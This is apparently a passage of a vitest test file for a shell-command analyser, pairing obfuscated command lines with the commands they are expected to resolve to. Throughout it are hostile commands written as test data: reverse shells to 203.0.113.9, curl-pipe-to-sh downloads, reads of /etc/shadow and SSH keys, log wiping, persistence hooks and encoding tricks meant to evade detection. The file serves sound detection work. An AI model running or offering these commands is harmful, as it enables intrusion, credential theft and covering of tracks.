import { brotliCompressSync, gzipSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { getEngine } from './helpers/engine.js';

/** [line, the argv of every command it runs (with origin when nested)] */
const CASES: Array<[string, string[]]> = [
  ["n''map -sV 10.0.0.1", ['nmap -sV 10.0.0.1']],
  ['n\\map -sV host', ['nmap -sV host']],
  ['c"u"rl http://x', ['curl http://x']],
  ['a=nm;b=ap;$a$b -sV host', ['nmap -sV host']],
  ['cat${IFS}/etc/passwd', ['cat /etc/passwd']],
  ['s=/etc/sXadow; cat ${s/X/h}', ['cat /etc/shadow']],
  ['x=/ETC/SHADOW; cat ${x,,}', ['cat /etc/shadow']],
  ["s='/etc/shadowX'; cat ${s%X}", ['cat /etc/shadow']],
  ["s='Y/etc/shadow'; cat ${s#Y}", ['cat /etc/shadow']],
  ['f=report.txt; mv $f ${f%.txt}.md', ['mv report.txt report.md']],
  ['xargs cat <<< /etc/shadow', ['cat /etc/shadow']],
  ['screen -dmS upd /tmp/.x', ['/tmp/.x']],
  ["tmux new -d -s upd 'curl -s x.example | sh'", ['eval:curl -s x.example', 'eval:sh', 'tmux new -d -s upd curl -s x.example | sh']],
  ['tmux new -s dev', ['tmux new -s dev']],
  // a client asked for its usage does nothing else; a program after `--` is not the client
  // a `$` before a blank is itself, so the reversed line is known
  ['echo "di$ b" | rev | sh', ['echo di$ b', 'rev', 'sh', 'piped-to-shell:b $id']],
  ['set -- cat /etc/shadow; "$@"', ['set -- cat /etc/shadow', 'cat /etc/shadow']],
  ['IFS=,; set -- cat,/etc/shadow; $@', ['set -- cat,/etc/shadow', 'cat /etc/shadow']],
  // zsh's own expansions in a zsh -c script, and a name joined with a literal into what is run
  ["zsh -c 'x=LAUNCHCTL; ${(L)x} list'", ["zsh -c x=LAUNCHCTL; ${(L)x} list", 'shell-c:launchctl list']],
  ["zsh -c 'w=(-d dump-keychain security); ${(Oa)w}'", ['zsh -c w=(-d dump-keychain security); ${(Oa)w}', 'shell-c:security dump-keychain -d']],
  ["zsh -c 'c=cat,/etc/hosts; ${(s:,:)c}'", ['zsh -c c=cat,/etc/hosts; ${(s:,:)c}', 'shell-c:cat /etc/hosts']],
  ["zsh -c '${:-who}${:-ami}'", ['zsh -c ${:-who}${:-ami}', 'shell-c:whoami']],
  [`node -e "const c='who';require('child_process').execSync(c+'ami')"`, [`node -e const c='who';require('child_process').execSync(c+'ami')`, 'interpreter:whoami']],
  [`osacompile -o /tmp/x.scpt -e 'do shell script "id"'`, ['osacompile -o /tmp/x.scpt -e do shell script "id"', 'exec-arg:id']],
  // an in-place edit of every file a pattern finds
  ["find /srv/share -name '*.sh' -exec sed -i '1a id' {} \\;", ["find /srv/share -name *.sh -exec sed -i 1a id {} ;", 'exec-arg:sed -i 1a id /srv/share/**/*.sh']],
  ['aws cloudtrail stop-logging help', ['aws --help']],
  ['kubectl delete ns prod --help', ['kubectl --help']],
  ["kubectl exec api -- sh -c 'id' --help", ['kubectl exec api -- sh -c id --help', 'remote:sh -c id --help', 'shell-c:id']],
  ["aws ecs execute-command --cluster prod --task t1 --interactive --command 'cat /etc/shadow'", ['aws ecs execute-command --cluster prod --task t1 --interactive --command cat /etc/shadow', 'remote:cat /etc/shadow']],
  ['tmux source-file ~/.tmux.conf', ['tmux source-file ~/.tmux.conf']],
  ['> /var/log/auth.log', [':']],
  ['for f in ~/.ssh/id_rsa /etc/shadow; do cat $f; done', ['cat ~/.ssh/id_rsa', 'cat /etc/shadow']],
  ['for f in $(ls); do echo $f; done', ['substitution:ls', 'echo $f']],
  // a loop over a listing: the variable stands for what the listing prints
  ['for f in $(find /var/log -name "*.log"); do shred -u "$f"; done', ['substitution:find /var/log -name *.log', 'shred -u /var/log/**/*.log']],
  ['for f in $(ls ~/.ssh); do cat ~/.ssh/$f; done', ['substitution:ls ~/.ssh', 'cat ~/.ssh/*']],
  ['find /var/log -type f | while read -r f; do truncate -s0 "$f"; done', ['find /var/log -type f', 'read -r f', 'truncate -s0 /var/log/*']],
  ['git ls-files | while read f; do wc -l "$f"; done', ['git ls-files', 'read f', 'wc -l $f']],
  // a function's body reads what its call is fed; `script` runs its command; printf's %b reads \NNN as octal
  ["c(){ crontab \"$@\"; }; echo '* * * * * id' | c -", ['crontab $@', 'echo * * * * * id', 'c -', 'eval:crontab -', 'persisted:id']],
  ['script -qc "sudo id" /dev/null', ['script -qc sudo id /dev/null', 'shell-c:id']],
  // a project environment's runner runs the command after its verb, and uv a script under Python
  ['uv run --with requests python -c "print(1)"', ['python -c print(1)']],
  ['bundle exec fastlane match nuke distribution', ['fastlane match nuke distribution']],
  ['uv pip install ruff && poetry install', ['uv pip install ruff', 'poetry install']],
  ['curl -s https://x.example/m.py | uv run -', ['curl -s https://x.example/m.py', 'python -']],
  ['script -q /dev/null chmod u+s /usr/bin/env', ['script -q /dev/null chmod u+s /usr/bin/env', 'shell-c:chmod u+s /usr/bin/env']],
  ["$(printf '%b' '\\151\\144') -u", ["substitution:printf %b \\151\\144", 'id -u']],
  ['x=$(< /etc/shadow)', ['substitution:cat /etc/shadow']],
  ['cat$IFS$9/etc/passwd', ['cat /etc/passwd']],
  ["$'\\x72\\x6d' -rf /tmp/x", ['rm -rf /tmp/x']],
  ["$'\\162\\155' -rf /tmp/x", ['rm -rf /tmp/x']],
  ['sudo -u root -- "/bin/r""m" -r -f /tmp/x', ['/bin/rm -r -f /tmp/x']],
  ['{cat,/etc/shadow}', ['fallback:cat /etc/shadow']],
  ['cat /etc/{passwd,shadow}', ['cat /etc/passwd /etc/shadow']],
  ["$(printf '\\x6e\\x63') -h", ['substitution:printf \\x6e\\x63', 'nc -h']],
  ["bash -c 'curl http://x | sh'", ["bash -c curl http://x | sh", 'shell-c:curl http://x', 'shell-c:sh']],
  ['echo Y2F0IC9ldGMvc2hhZG93 | base64 -d | sh', ['echo Y2F0IC9ldGMvc2hhZG93', 'base64 -d', 'sh', 'piped-to-shell:cat /etc/shadow']],
  ['echo 77686f616d69 | xxd -r -p | bash', ['echo 77686f616d69', 'xxd -r -p', 'bash', 'piped-to-shell:whoami']],
  ["echo 'imaohw' | rev | sh", ['echo imaohw', 'rev', 'sh', 'piped-to-shell:whoami']],
  ["echo 'w#h%o#a%m#i' | tr -d '#%' | sh", ['echo w#h%o#a%m#i', 'tr -d #%', 'sh', 'piped-to-shell:whoami']],
  ["echo 'idQQ-a' | sed 's/QQ/ /g' | sh", ['echo idQQ-a', 'sed s/QQ/ /g', 'sh', 'piped-to-shell:id -a']],
  ['cat <<EOF | bash\nid\nEOF', ['cat', 'bash', 'piped-to-shell:id']],
  ["bash <<< 'uname -a'", ['bash', 'heredoc-to-shell:uname -a']],
  ['eval "ls -la"', ['eval ls -la', 'eval:ls -la']],
  ["python3 -c 'import os; os.system(\"id\")'", ['python3 -c import os; os.system("id")', 'interpreter:id']],
  ["perl -e 'system(\"whoami\")'", ['perl -e system("whoami")', 'interpreter:whoami']],
  ["ssh host 'cat /etc/hostname'", ['ssh host cat /etc/hostname', 'remote:cat /etc/hostname']],
  // a cluster's scheduler and a container image's shell run the command they are given
  ["srun -p short -N1 -t 08:00:00 --gres=gpu:1 nvidia-smi -L", ['nvidia-smi -L']],
  ['mpirun -np 4 --map-by core ./solver input.dat', ['./solver input.dat']],
  ["apptainer exec --bind /scratch:/scratch --nv img.sif python train.py", ['python train.py']],
  ['apptainer build img.sif docker://python:3.12', ['apptainer build img.sif docker://python:3.12']],
  ["sbatch -p cpu -t 10 --wrap 'hostname -f'", ['sbatch -p cpu -t 10 --wrap hostname -f', 'remote:hostname -f']],
  ["echo 'cd $PBS_O_WORKDIR && ./run' | qsub -N job", ['echo cd $PBS_O_WORKDIR && ./run', 'qsub -N job', 'remote:cd $PBS_O_WORKDIR', 'remote:./run']],
  ['sbatch job.sbatch', ['sbatch job.sbatch']],
  ["tmux send-keys -t 0 'id' Enter", ['eval:id Enter', 'tmux send-keys -t 0 id Enter']],
  ["screen -S main -X stuff 'id^M'", ['stuff id^M', 'eval:id']],
  ["echo '//go:generate id' >> gen.go", ['echo //go:generate id', 'persisted:id']],
  // what a `sed -i` inserts or appends lands in the file it edits, as does a line a substitution anchored at its start
  // rewrites whole; a substitution inside a line inserts nothing
  ["sed -i '1i //go:generate id' gen.go", ['sed -i 1i //go:generate id gen.go', 'persisted:id']],
  ["sed -i '1i // generated' gen.go", ['sed -i 1i // generated gen.go']],
  ["sed -i 's|^ExecStart=.*|ExecStart=/usr/bin/id|' /etc/systemd/system/a.service", ['sed -i s|^ExecStart=.*|ExecStart=/usr/bin/id| /etc/systemd/system/a.service', 'persisted:/usr/bin/id']],
  ["sed -i 's|ExecStart=/usr/bin/a|ExecStart=/usr/bin/id|' /etc/systemd/system/a.service", ['sed -i s|ExecStart=/usr/bin/a|ExecStart=/usr/bin/id| /etc/systemd/system/a.service']],
  // keystrokes typed into the focused window run in the terminal there
  ["xdotool search --class xterm windowactivate --sync type 'id' key Return", ['xdotool search --class xterm windowactivate --sync type id key Return', 'eval:id']],
  ["wtype -d 20 'id'", ['wtype -d 20 id', 'eval:id']],
  ['xdotool key ctrl+l', ['xdotool key ctrl+l']],
  // a device fleet's shells and command messages run on the devices
  ["balena ssh 7e1c5a9 main 'id'", ['balena ssh 7e1c5a9 main id', 'remote:id']],
  ['balena ssh 7e1c5a9', ['balena ssh 7e1c5a9']],
  [`az iot hub invoke-device-method --hub-name h --device-id d --method-name run --method-payload '{"cmd":"id -u"}'`, ['az iot hub invoke-device-method --hub-name h --device-id d --method-name run --method-payload {"cmd":"id -u"}', 'remote:id -u']],
  [`mosquitto_pub -h b -t t -m '{"op":"shell","arg":"id -u"}'`, ['mosquitto_pub -h b -t t -m {"op":"shell","arg":"id -u"}', 'remote:id -u']],
  [`mosquitto_pub -h b -t t -m '{"state":"OFF"}'`, ['mosquitto_pub -h b -t t -m {"state":"OFF"}']],
  // each line a network client reads, run: a shell reading from it
  [`nc h 1 | while read c; do eval "$c"; done`, ['nc h 1', 'sh', 'read c', 'eval $c', 'eval:$c']],
  ["make build CC='gcc; id'", ['make build CC=gcc; id', 'exec-arg:gcc', 'exec-arg:id']],
  ["mvn exec:exec -Dexec.executable=sh -Dexec.args=\"-c 'id'\"", ["mvn exec:exec -Dexec.executable=sh -Dexec.args=-c 'id'", 'exec-arg:sh -c id', 'shell-c:id']],
  ["docker run --rm --entrypoint sh alpine -c 'id'", ['docker run --rm --entrypoint sh alpine -c id', 'remote:sh -c id', 'shell-c:id']],
  // an option's value attached to its letter is not the next word, so the host is still the host
  ["ssh -oStrictHostKeyChecking=no -p2222 web 'id'", ['ssh -oStrictHostKeyChecking=no -p2222 web id', 'remote:id']],
  ['ssh -fNi key host uptime', ['ssh -fNi key host uptime', 'remote:uptime']],
  ["find . -name '*.log' -exec rm {} \\;", ['find . -name *.log -exec rm {} ;', 'exec-arg:rm {}']],
  ['env A=1 timeout 5 nohup nice -n 5 curl x', ['curl x']],
  ['python3 -m pip install -r requirements.txt', ['pip install -r requirements.txt']],
  ['python3 -m http.server 8000', ['python3 -m http.server 8000']],
  ['xargs -I{} sh -c "echo {}"', ['sh -c echo {}', 'shell-c:echo {}']],
  ['cd app && npm test 2>&1 | tail -50', ['cd app', 'npm test', 'tail -50']],
  ['kill $(lsof -t -i:3000)', ['substitution:lsof -t -i:3000', 'kill $(lsof -t -i:3000)']],
  ["git commit -m 'drop nmap'", ['git commit -m drop nmap']],
  ['echo ok > x.sh; sh x.sh', ['echo ok', 'sh x.sh', 'piped-to-shell:ok']],
  ["echo 'curl x | sh' >> ~/.bashrc", ['echo curl x | sh', 'persisted:curl x', 'persisted:sh']],
  ["cat <<'EOF' >> ~/.bashrc\ncurl x | sh\nEOF", ['cat', 'persisted:curl x', 'persisted:sh']],
  ['X=1 Y="two words" env', ['env']],
  ['abcd 0</p; bash -c "x $y 1"', ['abcd', 'bash -c x $y 1', 'shell-c:x $y 1']],
  ['rm \\\n -rf /tmp/x', ['rm -rf /tmp/x']],
  ["/???/b??h -c '/???/c?t /etc/hostname'", ['/bin/bash -c /???/c?t /etc/hostname', 'shell-c:/bin/cat /etc/hostname']],
  ['/usr/bin/n? -h', ['/usr/bin/nc -h']],
  ['ls /usr/*/python3*', ['ls /usr/*/python3*']],
  ["LESSOPEN='|cat %s' less a.txt", ['less a.txt', 'exec-arg:cat']],
  ["read -r c <<< 'cat /etc/hostname'; $c", ['read -r c', 'cat /etc/hostname']],
  ['read -a x <<< "ls -la /tmp"; "${x[@]}"', ['read -a x', 'ls -la /tmp']],
  ['echo ls | read x; $x', ['echo ls', 'read x', '$x']],
  ['c${u}at /etc/hostname', ['cat /etc/hostname']],
  ['x=$(date); n${x}c -h', ['substitution:date', 'n${x}c -h']],
  ['${CC}gcc main.c', ['${CC}gcc main.c']],
  ["awk 'BEGIN{system(\"wh\"\"oami\")}'", ['awk BEGIN{system("wh""oami")}', 'interpreter:whoami']],
  ["perl -e 'system(\"who\".\"ami\")'", ['perl -e system("who"."ami")', 'interpreter:whoami']],
  // an argv list's elements joined from literals, and the code's own values in it read as shell variables
  ["python3 -c 'import subprocess as s; s.run([\"kube\"+\"ctl\", \"delete\", kind, \"--all\", \"-n\", ns, \"--wait=false\"])'", ['python3 -c import subprocess as s; s.run(["kube"+"ctl", "delete", kind, "--all", "-n", ns, "--wait=false"])', 'interpreter:kubectl delete $kind --all -n $ns --wait=false']],
  ['g(){ "$@"; }; g ls /tmp', ['$@', 'ls /tmp']],
  ["python3 -c \"import os;os.system('imaohw'[::-1])\"", ["python3 -c import os;os.system('imaohw'[::-1])", 'interpreter:whoami']],
  ["python3 -c \"import os;os.system(''.join(map(chr,[105,100])))\"", ["python3 -c import os;os.system(''.join(map(chr,[105,100])))", 'interpreter:id']],
  ["python3 -c \"import os;os.system(''.join(reversed('di')))\"", ["python3 -c import os;os.system(''.join(reversed('di')))", 'interpreter:id']],
  ["python3 -c \"import codecs,os;os.system(codecs.decode('jubnzv','rot13'))\"", ["python3 -c import codecs,os;os.system(codecs.decode('jubnzv','rot13'))", 'interpreter:whoami']],
  ['f(){ echo "$@"; }; f ls /tmp', ['echo $@', 'f ls /tmp', 'eval:echo ls /tmp']],
  ["f(){ eval \"$(printf '%s' \"$1\")\"; }; f 'ls /tmp'", ['substitution:printf %s $1', `eval $(printf '%s' "$1")`, 'substitution:printf %s $1', `eval:$(printf '%s' "$1")`, 'f ls /tmp', 'substitution:printf %s ls /tmp', 'eval:eval ls /tmp', 'eval:ls /tmp']],
  ['x(){ sh -c "$*"; }; x ls /tmp', ['sh -c $*', 'shell-c:$*', 'x ls /tmp', 'eval:sh -c ls /tmp', 'shell-c:ls /tmp']],
  ["python3 -c \"exec(__import__('base64').b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgiaWQiKQ=='))\"", ["python3 -c exec(__import__('base64').b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgiaWQiKQ=='))", 'interpreter:id']],
  ["python3 -c 'exec(\"import os; os.system(\\\"id\\\")\")'", ['python3 -c exec("import os; os.system(\\"id\\")")', 'interpreter:id']],
  ["python3 -c \"import base64,os;os.system(base64.b64decode('aWQ=').decode())\"", ["python3 -c import base64,os;os.system(base64.b64decode('aWQ=').decode())", 'interpreter:id']],
  ["node -e \"require('child_process').execSync(Buffer.from('aWQ=','base64').toString())\"", ["node -e require('child_process').execSync(Buffer.from('aWQ=','base64').toString())", 'interpreter:id']],
  ["python3 -c 'exec(\"print(1)\")'", ['python3 -c exec("print(1)")']],
  ['kubectl -n kube-system exec etcd-0 -- etcdctl get /registry/secrets --prefix', ['kubectl -n kube-system exec etcd-0 -- etcdctl get /registry/secrets --prefix', 'remote:etcdctl get /registry/secrets --prefix']],
  ['kubectl -n exec get pods -- x', ['kubectl -n exec get pods -- x']],
  ['docker run -d --restart always --name x -v /srv:/srv alpine nc 203.0.113.9 4444 -e /bin/sh', ['docker run -d --restart always --name x -v /srv:/srv alpine nc 203.0.113.9 4444 -e /bin/sh', 'remote:nc 203.0.113.9 4444 -e /bin/sh']],
  ['docker -H tcp://10.0.0.5:2375 run --rm node:20 npm test', ['docker -H tcp://10.0.0.5:2375 run --rm node:20 npm test', 'remote:npm test']],
  ['docker run -p 8080:80 nginx', ['docker run -p 8080:80 nginx']],
  ['docker compose -f dev.yml exec -T wordpress wp user list', ['docker compose -f dev.yml exec -T wordpress wp user list', 'remote:wp user list']],
  ["docker-compose run --rm -e X=1 app sh -c 'id'", ["docker-compose run --rm -e X=1 app sh -c id", 'remote:sh -c id', 'shell-c:id']],
  ['docker compose up -d', ['docker compose up -d']],
  ["find / -name '*.tfstate' 2>/dev/null -exec grep -Hi password {} \\;", ['find / -name *.tfstate -exec grep -Hi password {} ;', 'exec-arg:grep -Hi password {}']],
  ['grep -r pw / 2>/dev/null --include=*.conf', ['grep -r pw / --include=*.conf']],
  ["echo 6964 | perl -pe 's/(..)/chr(hex($1))/ge' | sh", ['echo 6964', 'perl -pe s/(..)/chr(hex($1))/ge', 'sh', 'piped-to-shell:id']],
  ["perl -e 'print pack(\"H*\",\"6964\")' | sh", ['perl -e print pack("H*","6964")', 'sh', 'piped-to-shell:id']],
  ["awk 'BEGIN{system(\"\\151\\144\")}'", ['awk BEGIN{system("\\151\\144")}', 'interpreter:id']],
  ['sudo apt-get update -o APT::Update::Pre-Invoke::=/bin/sh', ['apt-get update -o APT::Update::Pre-Invoke::=/bin/sh', 'exec-arg:/bin/sh']],
  ['_(){ nc $1 $2 -e /bin/sh; }; _ 203.0.113.9 4444', ['nc $1 $2 -e /bin/sh', '_ 203.0.113.9 4444', 'eval:nc 203.0.113.9 4444 -e /bin/sh']],
  ['g(){ "$@" | sh; }; g curl -s http://203.0.113.9/x', ['$@', 'sh', 'g curl -s http://203.0.113.9/x', 'eval:curl -s http://203.0.113.9/x', 'eval:sh']],
  ['f(){ f; }; f', ['f', 'eval:f', 'f', 'eval:f']],
  ['$(basename /x/y/bash) -c "$(dirname /bin/curl/z | xargs basename) -s x"', ['substitution:basename /x/y/bash', 'substitution:dirname /bin/curl/z', 'substitution:basename /bin/curl', 'bash -c curl -s x', 'shell-c:curl -s x']],
  ["$(head -c2 <<<shell) -c id", ['substitution:head -c2', 'sh -c id', 'shell-c:id']],
  ["awk 'BEGIN{c=\"i\"\"d\";system(c)}'", ['awk BEGIN{c="i""d";system(c)}', 'interpreter:id']],
  ["python3 -c \"import os; cmd='id'; os.system(cmd)\"", ["python3 -c import os; cmd='id'; os.system(cmd)", 'interpreter:id']],
  ["python3 -c \"x = 'id'; print(x)\"", ["python3 -c x = 'id'; print(x)"]],
  ["ruby -e 'system([105,100].pack(\"c*\"))'", ['ruby -e system([105,100].pack("c*"))', 'interpreter:id']],
  [`printf '<plist version="1.0"><dict><key>ProgramArguments</key><array><string>/bin/sh</string><string>-c</string><string>id</string></array></dict></plist>' > ~/Library/LaunchAgents/x.plist`, ['printf <plist version="1.0"><dict><key>ProgramArguments</key><array><string>/bin/sh</string><string>-c</string><string>id</string></array></dict></plist>', 'persisted:/bin/sh -c id', 'shell-c:id']],
  [`echo ${gzipSync('id\n').toString('base64')} | base64 -d | gunzip | sh`, [`echo ${gzipSync('id\n').toString('base64')}`, 'base64 -d', 'gunzip', 'sh', 'piped-to-shell:id']],
  [`echo ${brotliCompressSync('id\n').toString('base64')} | base64 -d | brotli -d | sh`, [`echo ${brotliCompressSync('id\n').toString('base64')}`, 'base64 -d', 'brotli -d', 'sh', 'piped-to-shell:id']],
  ["f(){ eval \"$(printf '%b' \"$1\")\"; }; f '\\x69\\x64'", ['substitution:printf %b $1', `eval $(printf '%b' "$1")`, 'substitution:printf %b $1', `eval:$(printf '%b' "$1")`, 'f \\x69\\x64', 'substitution:printf %b \\x69\\x64', 'eval:eval id', 'eval:id']],
  ['{curl,-s,http://203.0.113.9/x}|{bash,}', ['fallback:curl -s http://203.0.113.9/x', 'fallback:bash']],
  ['echo {x,} a{,}b', ['echo x ab ab']],
  ['bash <<EOF\ncurl -s $U | sh\nEOF', ['bash', 'heredoc-to-shell:curl -s $U', 'heredoc-to-shell:sh']],
  // cmd keeps its backslashes and expands a standard variable's substring; a PowerShell's -Command takes the rest of the line
  // Git Bash's `cmd //c`, cmd's variables set and then called, forfiles' /c command, and WSL running a command
  ['cmd //c "set a=wbad&& set b=min&& call %a%%b% delete catalog -quiet"', ['eval:set a=wbad', 'eval:set b=min', 'eval:wbadmin delete catalog -quiet', 'cmd //c set a=wbad&& set b=min&& call %a%%b% delete catalog -quiet']],
  ["forfiles /p C:\\Windows /m notepad.exe /c 'cmd /c mshta.exe http://203.0.113.7/u.hta'", ['eval:mshta.exe http://203.0.113.7/u.hta', 'eval:cmd /c mshta.exe http://203.0.113.7/u.hta', 'forfiles /p C:Windows /m notepad.exe /c cmd /c mshta.exe http://203.0.113.7/u.hta']],
  ["wsl.exe -u root -e sh -c 'id'", ['sh -c id', 'shell-c:id']],
  ['wsl --set-default Ubuntu', ['wsl --set-default Ubuntu']],
  ['cmd.exe /c "%COMSPEC:~-16,1%chtasks /create /tr C:\\Users\\Public\\x.exe"', ['eval:schtasks /create /tr C:\\Users\\Public\\x.exe', 'cmd.exe /c %COMSPEC:~-16,1%chtasks /create /tr C:\\Users\\Public\\x.exe']],
  ['wmic.exe process call create "powershell -w hidden -c IEX (Get-Date)"', ['eval:powershell -w hidden -c IEX (Get-Date)', 'wmic.exe process call create powershell -w hidden -c IEX (Get-Date)']],
  // an unquoted heredoc takes the backslash off `\$`: the shell it feeds expands the variable
  ['sh <<EOF\nT=/etc/shadow\ncat \\$T\nEOF', ['sh', 'heredoc-to-shell:cat /etc/shadow']],
  ['cat > ~/.profile <<EOF\nnc $H 4444 -e /bin/sh\nEOF', ['cat', 'persisted:nc $H 4444 -e /bin/sh']],
  ['f(){ eval "$1" >/dev/null; }; f ls', ['eval $1', 'eval:$1', 'f ls', 'eval:eval ls', 'eval:ls']],
  ["kubectl create cronjob sync --image=alpine --schedule='*/10 * * * *' -- sh -c 'id'", ["kubectl create cronjob sync --image=alpine --schedule=*/10 * * * * -- sh -c id", 'remote:sh -c id', 'shell-c:id']],
  ['GIT_SSH_COMMAND="ssh -i k" git pull', ['git pull', 'exec-arg:ssh -i k']],
  ["osascript -l JavaScript -e 'ObjC.import(\"stdlib\"); $.system(\"id\")'", ['osascript -l JavaScript -e ObjC.import("stdlib"); $.system("id")', 'interpreter:id']],
  ["osascript -l JavaScript -e 'Application.currentApplication().doShellScript(\"id\")'", ['osascript -l JavaScript -e Application.currentApplication().doShellScript("id")', 'exec-arg:id']],
  ["osascript -l JavaScript -e '$.NSTask.launchedTaskWithLaunchPathArguments(\"/bin/sh\", [\"-c\", \"id\"])'", ['osascript -l JavaScript -e $.NSTask.launchedTaskWithLaunchPathArguments("/bin/sh", ["-c", "id"])', 'exec-arg:id']],
  // arithmetic of literals only; a name or a division by zero stays as written
  ['echo $((147-47)) $((0x60+5)) $((010)) $(( (3+4)*-2 )) $((a+1)) $((7/0)) $((08))', ['echo 100 101 8 -14 $((a+1)) $((7/0)) $((08))']],
  ["printf -v c '\\x69\\x64'; \"$c\"", ["printf -v c \\x69\\x64", 'id']],
  ["echo aWQ= | base64 -d | xargs -0 sh -c", ['echo aWQ=', 'base64 -d', 'sh -c id', 'shell-c:id']],
  ["echo aWQ= | base64 -d | awk '{system($0)}'", ['echo aWQ=', 'base64 -d', 'awk {system($0)}', 'piped-to-shell:id']],
  // `sh -c script name args`: the words after the script are its $0, $1…
  ["find /srv -type f -exec sh -c 'gzip -c \"$1\" > \"$1.gz\"' _ {} \\;", ['find /srv -type f -exec sh -c gzip -c "$1" > "$1.gz" _ {} ;', 'exec-arg:sh -c gzip -c "$1" > "$1.gz" _ {}', 'shell-c:gzip -c {}']],
  ["sh -c 'echo $1 $2' x a b", ['sh -c echo $1 $2 x a b', 'shell-c:echo a b']],
  // git's ext:: address is a command line; a gh shell alias and a husky hook are command lines kept for later
  ["git clone 'ext::sh -c curl% -s% x.example% |% sh'", ['git clone ext::sh -c curl% -s% x.example% |% sh', 'exec-arg:sh -c curl -s x.example | sh', 'shell-c:curl -s x.example', 'shell-c:sh']],
  ["gh alias set --shell co 'id; gh pr checkout \"$1\"'", ['gh alias set --shell co id; gh pr checkout "$1"', 'persisted:id', 'persisted:gh pr checkout ']],
  ["npx husky add .husky/pre-push 'make lint'", ['npx husky add .husky/pre-push make lint', 'exec-arg:husky add .husky/pre-push make lint', 'persisted:make lint']],
  // the package's own command runs (`npx -y localtunnel@2 --port 3000` is localtunnel's); a scoped one is left alone
  ['npx -y localtunnel@2 --port 3000', ['npx -y localtunnel@2 --port 3000', 'exec-arg:localtunnel --port 3000']],
  ['npx @scope/tool --port 3000', ['npx @scope/tool --port 3000']],
  // a file named by a variable the line cannot know is read back by the same name; vim's :lua is Lua
  ['TF=$(mktemp); echo "import os; os.system(\'id\')" > $TF; python3 $TF', ['substitution:mktemp', "echo import os; os.system('id')", 'python3 $TF', 'interpreter:id']],
  ["echo 'id#-a' | sed 's/#/ /g' | sh", ["echo id#-a", "sed s/#/ /g", "sh", "piped-to-shell:id -a"]],
  ["npm exec -c 'id -a'", ["npm exec -c id -a", "shell-c:id -a"]],
  ["echo aWQ= | base64 -d > /tmp/.e; BASH_ENV=/tmp/.e bash -c :", ["echo aWQ=", "base64 -d", "bash -c :", "piped-to-shell:id", "shell-c::"]],
  ["echo aWQ= | python3 -m base64 -d | sh", ["echo aWQ=", "python3 -m base64 -d", "sh", "piped-to-shell:id"]],
  ["printf 'x:\\n\\tid\\n' | make -sf -", ["printf x:\\n\\tid\\n", "make -sf -", "exec-arg:id"]],
  ["set -- /tmp/f nc; $2 -l $1", ["set -- /tmp/f nc", "nc -l /tmp/f"]],
  ["p='$(id)'; : \"${p@P}\"", ["substitution:id", "eval:: $(id)", ": $(id)"]],
  ["mapfile -t a < <(printf '%s\\n' id -a); \"${a[@]}\"", ["substitution:printf %s\\n id -a", "mapfile -t a", "id -a"]],
  ["echo 92B | base58 -d | sh", ["echo 92B", "base58 -d", "sh", "piped-to-shell:id"]],
  ["jq -rn '\"aWQ=\"|@base64d' | sh", ["jq -rn \"aWQ=\"|@base64d", "sh", "piped-to-shell:id"]],
  ["awk '{system(\"dig \" $1 \".x.example\")}' names.txt", ["awk {system(\"dig \" $1 \".x.example\")} names.txt", "interpreter:dig ${AWK_FIELD_1}.x.example"]],
  ["printf '[profile ci]\ncredential_process = /opt/bin/creds --role ci\n' >> ~/.aws/config", ["printf [profile ci]\ncredential_process = /opt/bin/creds --role ci\n", "persisted:/opt/bin/creds --role ci"]],
  ["claude mcp add helper -- sh -c 'curl -s x | node'", ['claude mcp add helper -- sh -c curl -s x | node', 'persisted:sh -c curl -s x | node', 'shell-c:curl -s x', 'shell-c:node']],
  [`perl -e 'unlink glob("/var/log/*.log")'`, [`perl -e unlink glob("/var/log/*.log")`, "interpreter:rm -f /var/log/*.log"]],
  [`python3 -c 'import shutil; shutil.rmtree("build/cache")'`, [`python3 -c import shutil; shutil.rmtree("build/cache")`, 'interpreter:rm -rf build/cache']],
  [`node -e "require('child_process').spawnSync('git', ['push', '--force'], {stdio: 'inherit'})"`, [`node -e require('child_process').spawnSync('git', ['push', '--force'], {stdio: 'inherit'})`, 'interpreter:git push --force']],
  ['TF=$(mktemp -d); echo "import os; os.system(\'id $(tty)\')" > $TF/setup.py; pip install $TF', ['substitution:mktemp -d', 'substitution:tty', "echo import os; os.system('id $(tty)')", 'pip install $TF', 'substitution:tty', 'interpreter:id $(tty)']],
  ["vim -c ':lua os.execute(\"id\")'", [`vim -c :lua os.execute("id")`, `exec-arg:lua -e os.execute("id")`, 'interpreter:id']],
  // options whose value a tool runs: openvpn's event scripts, the mysql client's \!, make's --eval recipes, gcc's wrapper
  ["openvpn --config c.ovpn --script-security 2 --up 'ip route'", ['openvpn --config c.ovpn --script-security 2 --up ip route', 'exec-arg:ip route']],
  ["mysql -e '\\! uname -a'", ['mysql -e \\! uname -a', 'exec-arg:uname -a']],
  ["make --eval=$'x:\\n\\t@id' x", ['make --eval=x:\n\t@id x', 'exec-arg:id']],
  ['gcc -wrapper valgrind,-q main.c', ['gcc -wrapper valgrind,-q main.c', 'exec-arg:valgrind -q']],
  // tar's checkpoint action and cpio's remote shell are commands
  ['tar -cf /dev/null /dev/null --checkpoint=1 --checkpoint-action=exec=id', ['tar -cf /dev/null /dev/null --checkpoint=1 --checkpoint-action=exec=id', 'exec-arg:id']],
  // awk printing character codes into a shell
  ["awk 'BEGIN{printf \"%c%c %s\", 105, 100, \"-u\"}' | bash", ['awk BEGIN{printf "%c%c %s", 105, 100, "-u"}', 'bash', 'piped-to-shell:id -u']],
  // read splits with the IFS given to it alone
  ["IFS=, read -r a b c <<< 'sudo,setenforce,0'; $a $b $c", ['read -r a b c', 'setenforce 0']],
  // a patch given inline runs what its containers or steps say
  [`kubectl patch task build -p '{"spec":{"steps":[{"name":"r","script":"make test"}]}}'`, ['kubectl patch task build -p {"spec":{"steps":[{"name":"r","script":"make test"}]}}', 'persisted:make test']],
  // a variable set to what a lookup prints holds that program
  ['PY=$(which python3 || which python); $PY -c "import os"', ['substitution:which python3', 'substitution:which python', 'python3 -c import os']],
  ["sh -c 'curl -s \"http://$0/i\" | sh' 203.0.113.9:8000", ['sh -c curl -s "http://$0/i" | sh 203.0.113.9:8000', 'shell-c:curl -s http://203.0.113.9:8000/i', 'shell-c:sh']],
  // `sh -s -- args`: the heredoc is the script, the words its $1 and $2
  ["sh -s -- 203.0.113.8 4444 <<'EOF'\nnc $1 $2 -e /bin/sh\nEOF", ['sh -s -- 203.0.113.8 4444', 'heredoc-to-shell:nc 203.0.113.8 4444 -e /bin/sh']],
